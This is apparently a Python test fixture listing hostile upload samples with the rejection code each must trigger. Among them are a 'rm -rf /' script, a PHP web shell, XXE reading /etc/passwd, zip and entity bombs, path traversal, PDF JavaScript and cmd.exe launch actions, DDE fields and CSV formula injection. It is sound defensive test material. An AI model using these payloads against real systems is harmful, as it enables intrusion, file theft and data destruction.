"""The table of hostile files: name, content and the refusal each must meet."""

import zipfile
import zlib

from tests.kernel.upload_samples import (
    OLE,
    WORD,
    animated,
    docx,
    docx_relation,
    encrypted_pdf,
    pdf,
    pdf_with_attachment,
    pdf_with_hidden_script,
    picture,
    png_chunk,
    png_of,
    relation,
    xlsx,
    zipped,
)

SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!DOCTYPE html><html><body>hi</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 200
PLAIN_ZIP = zipped([("a.txt", "x")])
XXE = (
    f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f'<w:document xmlns:w="{WORD}"><w:body>&x;</w:body></w:document>'
)
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    f'<w:document xmlns:w="{WORD}">&b;</w:document>'
)
BOMB = docx(("word/media/zeros.dat", b"\0" * 30_000_000))
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
DDE = "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r>"
LINK = zipfile.ZipInfo("word/link")
LINK.external_attr = 0o120777 << 16
TEXT_BOMB = png_of(8, 8, png_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 9_000_000)))
LINKED_BOOK = xlsx(("xl/_rels/w.rels", relation("externalLinkPath", "a.xlsx", "External")))
FOREIGN_DTD = "<!DOCTYPE a SYSTEM 'http://x.invalid/'><a/>"
UTF_7 = "<?xml version='1.0' encoding='utf-7'?><a/>"


def opening_pdf(action):
    return pdf("x", catalog=f"/OpenAction << {action} >>")


HOSTILE = [
    # name, content, code
    ("空.txt", b"", "empty"),
    ("空.csv", b" \r\n\0\n", "empty"),
    ("网页.txt", HTML, "markup"),
    ("网页.pdf", HTML, "markup"),
    ("网页.jpg", b"\xef\xbb\xbf \n<HTML>", "markup"),
    ("图.png", SVG, "markup"),
    ("图.svg", SVG, "type"),
    ("页.html", HTML, "type"),
    ("表.xml", b"<?xml version='1.0'?><a/>", "type"),
    ("表.xlsx", b"<?xml version='1.0'?><Workbook/>", "markup"),
    ("脚本.txt", b"#!/bin/sh\nrm -rf /\n", "markup"),
    ("脚本.txt", b"@echo off\r\n", "markup"),
    ("脚本.txt", b"<?php system($_GET[1]);", "markup"),
    ("脚本.js", b"alert(1)", "type"),
    ("无扩展名", b"abc", "type"),
    ("程序.pdf", EXE, "executable"),
    ("程序.pdf.exe", EXE, "type"),
    ("程序.txt", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "executable"),
    ("快捷方式.docx", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "executable"),
    ("包.zip", PLAIN_ZIP, "type"),
    ("包.pdf", PLAIN_ZIP, "archive"),
    ("包.docx", PLAIN_ZIP, "archive"),
    ("包.xlsx", b"Rar!\x1a\x07\x01\0" + b"\0" * 60, "archive"),
    ("包.txt", b"7z\xbc\xaf\x27\x1c\0\x04", "archive"),
    ("动.gif", animated("GIF"), "type"),
    ("动.jpg", animated("GIF"), "type"),
    ("图.png", picture("BMP"), "type"),
    ("图.jpg", picture("TIFF"), "type"),
    ("苹果.jpg", b"\0\0\0\x18ftypheic" + b"\0" * 60, "type"),
    ("文.txt", b"{\\rtf1 hello}", "type"),
    ("旧.doc", OLE, "legacy_office"),
    ("旧.wps", OLE, "legacy_office"),
    ("旧.docx", OLE, "legacy_office"),
    ("旧.xlsx", OLE, "legacy_office"),
    ("加密.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    ("图.png", picture("JPEG"), "mismatch"),
    ("图.jpg", picture("PNG"), "mismatch"),
    ("图.pdf", picture("PNG"), "mismatch"),
    ("文.jpg", "普通文字".encode(), "mismatch"),
    ("文.docx", "普通文字".encode(), "mismatch"),
    ("表.docx", xlsx(), "mismatch"),
    ("文.xlsx", docx(), "mismatch"),
    ("图.jpg", picture() + SCRIPT, "polyglot"),
    ("图.png", picture("PNG") + SCRIPT, "polyglot"),
    ("图.jpg", picture(comment=SCRIPT), "polyglot"),
    ("图.png", png_of(8, 8, png_chunk(b"tEXt", b"a\0" + HTML)), "polyglot"),
    ("图.jpg", picture() + PLAIN_ZIP, "polyglot"),
    ("图.png", picture("PNG") + PLAIN_ZIP, "polyglot"),
    ("图.webp", picture("WEBP") + PLAIN_ZIP, "polyglot"),
    ("图.jpg", picture() + pdf("x"), "polyglot"),
    ("图.jpg", picture() + b"Rar!\x1a\x07\x01\0", "polyglot"),
    ("文.txt", b"hello\n" + SCRIPT, "polyglot"),
    ("文.txt", b"hello\n" + pdf("x"), "polyglot"),
    ("文.pdf", b"\n" + pdf("x"), "polyglot"),
    ("文.pdf", b"GIF" + pdf("x"), "polyglot"),
    ("文.pdf", pdf("x", tail=b"extra"), "polyglot"),
    ("文.pdf", pdf("x", tail=PLAIN_ZIP), "polyglot"),
    ("文.pdf", pdf("x", tail=HTML), "polyglot"),
    ("文.docx", docx() + b"tail", "polyglot"),
    ("文.docx", docx(comment=b"note"), "polyglot"),
    ("文.docx", b"PK\x03\x04junk" + docx(), "polyglot"),
    ("大.png", png_of(50_000, 50_000), "pixels"),
    ("大.png", png_of(5_001, 5_000), "pixels"),
    ("动.png", animated("PNG"), "animated"),
    ("动.webp", animated("WEBP"), "animated"),
    ("残.jpg", picture(size=(640, 480))[:900], "damaged"),
    ("残.png", picture("PNG", size=(640, 480))[:80], "damaged"),
    ("残.webp", picture("WEBP", size=(640, 480))[:40], "damaged"),
    ("假.jpg", b"\xff\xd8\xff" + b"\0" * 100, "damaged"),
    ("字.png", TEXT_BOMB, "damaged"),
    ("宏.docm", docx(), "macro"),
    ("宏.xlsm", xlsx(), "macro"),
    ("宏.docx", docx(("word/vbaProject.bin", b"x")), "macro"),
    ("宏.xlsx", xlsx(("xl/vbaProject.bin", b"x")), "macro"),
    ("宏.docx", docx(types=[MACRO_TYPE]), "macro"),
    ("宏.docx", docx(types=["application/vnd.ms-office.vbaProject"]), "macro"),
    ("宏.xlsx", xlsx(("xl/macrosheets/sheet1.xml", "<a/>")), "macro"),
    ("控件.docx", docx(("word/activeX/activeX1.xml", "<a/>")), "embedded"),
    ("对象.docx", docx(("word/embeddings/oleObject1.bin", OLE)), "embedded"),
    ("对象.docx", docx(("word/media/image1.png", OLE)), "embedded"),
    ("程序.docx", docx(("word/media/image1.png", EXE)), "embedded"),
    ("套娃.docx", docx(("word/media/image1.png", PLAIN_ZIP)), "embedded"),
    ("套娃.xlsx", xlsx(("xl/other/inner.zip", PLAIN_ZIP)), "embedded"),
    ("网页.docx", docx(("word/a.html", HTML)), "embedded"),
    ("网页.docx", docx_relation("aFChunk", "chunk.dat", ""), "embedded"),
    ("对象.docx", docx_relation("oleObject", "http://example.invalid/x"), "embedded"),
    ("模板.docx", docx_relation("attachedTemplate", "http://example.invalid/t.dotm"), "external"),
    ("模板.docx", docx_relation("attachedTemplate", "\\\\example.invalid\\t.dotm"), "external"),
    ("模板.docx", docx_relation("attachedTemplate", "file://example.invalid/t.dotm"), "external"),
    ("外图.docx", docx_relation("image", "http://example.invalid/pixel.png"), "external"),
    ("链接.docx", docx_relation("hyperlink", "file:///c:/windows/x.exe"), "external"),
    ("链接.docx", docx_relation("hyperlink", "javascript:alert(1)"), "external"),
    ("链接.docx", docx_relation("hyperlink", "\\\\example.invalid\\share"), "external"),
    ("外部.xlsx", xlsx(("xl/externalLinks/externalLink1.xml", "<a/>")), "external"),
    ("外部.xlsx", xlsx(("xl/connections.xml", "<a/>")), "external"),
    ("外部.xlsx", LINKED_BOOK, "external"),
    ("域.docx", docx(body=DDE), "active_content"),
    ("域.docx", docx(body='<w:fldSimple w:instr=" DDEAUTO c:\\x "/>'), "active_content"),
    ("实体.docx", docx(document=XXE), "xml_entity"),
    ("实体.docx", docx(document=LAUGHS), "xml_entity"),
    ("实体.docx", docx(("customXml/item1.xml", "<!DOCTYPE a><a/>")), "xml_entity"),
    ("实体.xlsx", xlsx(("xl/_rels/w.rels", FOREIGN_DTD)), "xml_entity"),
    ("编码.docx", docx(("customXml/i.xml", "<!DOCTYPE a><a/>".encode("utf-16"))), "damaged"),
    ("编码.docx", docx(("customXml/i.xml", UTF_7)), "damaged"),
    ("坏.docx", docx(document="<a><b></a>"), "damaged"),
    ("坏.docx", docx()[:-40], "damaged"),
    ("深.docx", docx(document="<a>" * 600 + "</a>" * 600), "damaged"),
    ("坏.docx", docx(method=zipfile.ZIP_BZIP2), "damaged"),
    ("重名.docx", docx(("WORD/document.xml", "<a/>")), "damaged"),
    ("炸弹.docx", BOMB, "bomb"),
    ("炸弹.docx", docx(*((f"word/m/{n}.dat", b"\0\1" * 500_000) for n in range(120))), "bomb"),
    ("炸弹.docx", docx(*((f"word/m/{n}.dat", b"") for n in range(2_100))), "bomb"),
    ("穿越.docx", docx(("../../etc/x", b"x")), "traversal"),
    ("穿越.docx", docx(("word/../../x", b"x")), "traversal"),
    ("穿越.docx", docx(("/etc/x", b"x")), "traversal"),
    ("穿越.docx", docx(("C:/x", b"x")), "traversal"),
    ("穿越.docx", docx(("word\\..\\x", b"x")), "traversal"),
    ("穿越.docx", docx((LINK, b"/etc/passwd")), "traversal"),
    ("脚本.pdf", opening_pdf("/S /JavaScript /JS (1)"), "active_content"),
    ("脚本.pdf", opening_pdf("/S /J#61vaScript /J#53 (1)"), "active_content"),
    ("脚本.pdf", pdf("x", catalog="/AA << /O << /JS (1) >> >>"), "active_content"),
    ("脚本.pdf", pdf("x", extra_objects=[b"<< /S /Launch /F (cmd.exe) >>"]), "active_content"),
    ("脚本.pdf", pdf("x", extra_objects=[b"[ << /X << /S /SubmitForm >> >> ]"]), "active_content"),
    ("脚本.pdf", pdf_with_hidden_script(), "active_content"),
    ("表单.pdf", pdf("x", catalog="/AcroForm << /XFA 3 0 R >>"), "active_content"),
    ("附件.pdf", pdf_with_attachment(), "embedded"),
    ("附件.pdf", pdf("x", extra_objects=[b"<< /Type /Filespec /EF << /F 3 0 R >> >>"]), "embedded"),
    ("加密.pdf", encrypted_pdf(), "encrypted"),
    ("残.pdf", pdf("x")[:200], "damaged"),
    ("残.pdf", b"%PDF-1.7\n%%EOF\n", "damaged"),
    ("文.txt", b"a\0b", "control_characters"),
    ("文.txt", b"a\x1b[31mred", "control_characters"),
    ("文.csv", b"\xff\xfe\xff", "encoding"),
    ("文.txt", "企业".encode("utf-16"), "encoding"),
    ("文.csv", b"name\n=cmd|' /C calc'!A0\n", "formula"),
    ("文.csv", b"a,\"@SUM(1)*cmd|'/C calc'!A0\"\n", "formula"),
]  # fmt: skip
